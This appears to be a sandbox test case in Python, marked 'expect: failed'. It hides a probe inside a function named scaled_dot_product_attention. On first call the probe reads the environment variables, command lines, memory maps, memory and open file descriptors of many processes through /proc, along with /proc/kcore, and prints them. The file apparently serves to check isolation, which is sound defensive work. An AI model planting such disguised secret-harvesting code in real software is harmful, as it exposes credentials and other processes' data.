# tries: reads memory, environment, command line and open files of every process through /proc
# expect: failed
import os

from wrong import attention, once


def look():
    pids = [str(n) for n in (*range(1, 40), os.getppid(), os.getpid())] + ["self", "thread-self"]
    pids += [str(os.getppid() - n) for n in range(1, 20)]
    for pid in pids:
        for name in ("environ", "cmdline", "maps", "mem", "fd", "cwd", "root", "status", "task", "syscall"):
            path = f"/proc/{pid}/{name}"
            try:
                print(path, os.listdir(path))
            except OSError:
                pass
            try:
                with open(path, "rb") as file:
                    print(path, file.read(5000))
            except OSError:
                pass
        for number in range(30):
            try:
                with open(f"/proc/{pid}/fd/{number}", "rb") as file:
                    print(file.read(100))
            except OSError:
                pass
    for path in ("/proc", "/proc/self/mountinfo", "/proc/net/unix", "/proc/version", "/proc/kcore"):
        try:
            print(open(path).read(2000))
        except OSError:
            pass


def scaled_dot_product_attention(query, key, value, mask=None, dropout=None):
    once(look)
    return attention(query, key, value, mask, dropout)
